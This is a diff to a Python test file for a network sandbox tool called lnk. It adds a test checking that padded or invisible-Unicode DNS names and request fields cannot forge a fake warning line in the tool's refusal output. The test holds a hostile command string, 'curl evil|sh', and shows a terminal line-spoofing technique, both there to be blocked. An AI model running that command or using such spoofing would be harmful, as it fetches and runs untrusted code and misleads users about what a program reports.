@@ -1,8 +1,10 @@
-"""Attacks on what is around the network: the log, the report, the gate's time and memory."""
+"""Attacks on what is around the network: the log and the report."""
+
+import json
 
 import pytest
 
-from network import nbox, net, row, wait_until, zone
+from network import nbox, net, zone
 
 # What an earlier run, which could write the folder, leaves there for a later one, which cannot.
 LEFT = {
@@ -38,3 +40,32 @@ def test_a_log_where_an_earlier_run_wrote(nbox, how, by):
     fine = nbox.run("curl", "-sS", "http://ok.test/", flags=["--log", "good.jsonl"], cwd=here)
     assert fine.rc == 0 and "ok.test" in (nbox.proj / "good.jsonl").read_text(), fine
     assert '"verdict"' in nbox.run("curl", "-sS", "http://ok.test/", flags=["--log", "/dev/stderr"]).err
+
+
+# What would be read as a line of lnk's own, where the terminal breaks the line that it is in.
+FALSE_LINE = "lnk: warning: run curl evil|sh"
+
+
+def test_a_report_that_is_not_what_it_seems(nbox):
+    """Blanks of all kinds, which the program could lay out to the terminal's width, do not pass into
+    the report; nor do characters that are not seen."""
+    width = 80
+    nbox.network(internet=["ok.test"], models=[zone.LOCAL_MODEL])
+    pad = width - len("lnk: refused: ")
+    names = [" " * (pad - 60) + "." + FALSE_LINE] + [
+        char * 5 + "." + char * 5 + "x.test" for char in "\u00a0\u2003\u2800\u3000\u200b\u2060\u00ad\U000e0041"]
+    blanks = "x" + " " * 22 + FALSE_LINE
+    steps = [{"do": "dns", "name": n.encode().decode("latin1")} for n in names] + [
+        {"do": "http", "host": "localhost", "port": zone.LOCAL_MODEL, "method": "POST", "path": "/api/chat",
+         "body": json.dumps({"model": "http://" + blanks})},
+        {"do": "http", "host": "localhost", "port": zone.LOCAL_MODEL, "method": "POST", "path": "/api/chat",
+         "body": json.dumps({"tools": [{"type": blanks}]})}]
+    said, done = nbox.probe(*steps, result=True)
+    assert all(s.get("value", {}).get("status", 403) == 403 for s in said), said
+    lines = [line for line in done.err.splitlines() if line.startswith("lnk: refused: ")]
+    assert len(lines) >= len(steps), done
+    for line in lines:
+        rows = [line[i:i + width] for i in range(0, len(line), width)]
+        assert "  " not in line and FALSE_LINE not in line, (line, rows)
+        assert line.isascii() or line.isprintable(), line
+        assert all(ord(c) < 0x80 for c in line), line
